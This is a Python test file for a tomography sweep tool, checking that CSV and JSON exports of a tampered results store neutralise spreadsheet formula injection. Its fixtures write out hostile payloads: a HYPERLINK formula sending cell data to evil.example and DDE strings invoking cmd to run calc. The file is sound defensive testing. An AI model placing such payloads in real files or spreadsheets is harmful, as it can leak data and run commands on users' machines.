"""A store received from someone else, as a hostile sender would make it: its strings never
become spreadsheet formulas, and its plugins never run in a command that only reads it.

Each case asserts the exit status, the one line (no traceback), and that nothing committed
was lost or changed. The CLI runs in-process through its entry point (``main``).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import trial_hooks
import zarr
from sweep_support import run_cli, tiny_study

from tomosweep.results import SweepStore
from tomosweep.results.spreadsheet import FORMULA_STARTS, safe_cell
from tomosweep.sweep import study_from_dict
from tomosweep.sweep.api import run_study

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _tree(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and p.name != ".tomosweep.lock"
    }


def _committed(path: Path) -> list:
    with SweepStore.open(path) as opened:
        return [(r.method, r.cell, dict(r.params), r.nrmse, r.status) for r in opened.records()]


@pytest.fixture(scope="module")
def finished(client, tmp_path_factory):
    """A finished tiny study (synthetic trials), copied by each test that edits it."""
    path = tmp_path_factory.mktemp("received") / "s.zarr"
    run_study(study_from_dict(tiny_study()), path, client=client, trial_fn=trial_hooks.synthetic_trial)
    return path


@pytest.fixture()
def poisoned(finished, tmp_path):
    """The study as a hostile sender returns it: a stop reason and trial strings that are formulas."""
    path = tmp_path / "received.zarr"
    shutil.copytree(finished, path)
    group = zarr.open_group(path, mode="r+")
    states = dict(group.attrs["optimiser"])
    key = next(k for k in states if k.startswith("fused/"))
    states[key] = {**states[key], "stopped": FORMULA}
    group.update_attributes({"optimiser": states})
    meta = group["trials/meta"]
    first = json.loads(str(meta[0]))
    meta[0] = json.dumps({**first, "worker": "+cmd|' /C calc'!A0", "error": "@SUM(1+1)*cmd|' /C calc'!A0"})
    return path


# ------------------------------------------------------------------ CSV cells are text, never formulas


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_string_that_starts_a_formula_gets_a_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-1.5, -3, 0.25, "fused", "", None, "a=b", "1-2"])
def test_numbers_and_plain_strings_stay_as_they_are(value):
    assert safe_cell(value) == value


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):  # only a negative number may start with a minus
                float(cell)


def test_status_csv_of_a_received_store_has_no_formula(poisoned, capsys):
    before = _tree(poisoned)
    code, out, err = run_cli(["status", poisoned, "--format", "csv"], capsys)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    _no_formula(rows)
    stopped = rows[0].index("stopped")
    assert any(row[stopped] == "'" + FORMULA for row in rows[1:])
    assert _tree(poisoned) == before  # status only reads


def test_status_json_keeps_the_received_string_as_it_is(poisoned, capsys):
    code, out, err = run_cli(["status", poisoned, "--format", "json"], capsys)
    assert code == 0, err
    assert FORMULA in {row["stopped"] for row in json.loads(out)}  # JSON is data, not a spreadsheet


def test_export_csvs_of_a_received_store_have_no_formula(poisoned, tmp_path, capsys):
    committed = _committed(poisoned)
    code, out, err = run_cli(["export", poisoned, "--out", tmp_path / "out"], capsys)
    assert code == 0, err
    best = list(csv.reader(io.StringIO((tmp_path / "out" / "best_params.csv").read_text())))
    trials = list(csv.reader(io.StringIO((tmp_path / "out" / "trials.csv").read_text())))
    _no_formula(best)
    _no_formula(trials)
    assert any("'" + FORMULA in row for row in best)
    header = trials[0]
    assert trials[1][header.index("worker")] == "'+cmd|' /C calc'!A0"
    assert trials[1][header.index("error")].startswith("'@SUM")
    assert _committed(poisoned) == committed


def test_negative_numbers_in_an_export_stay_numbers(tmp_path):
    import pandas as pd

    from tomosweep.results.spreadsheet import write_csv

    frame = pd.DataFrame({"method": ["-fused", "sirt"], "lambda_tv": [-0.5, 2.0], "n": [-3, 4]})
    write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert list(back["lambda_tv"]) == [-0.5, 2.0] and list(back["n"]) == [-3, 4]
    assert list(back["method"]) == ["'-fused", "sirt"]
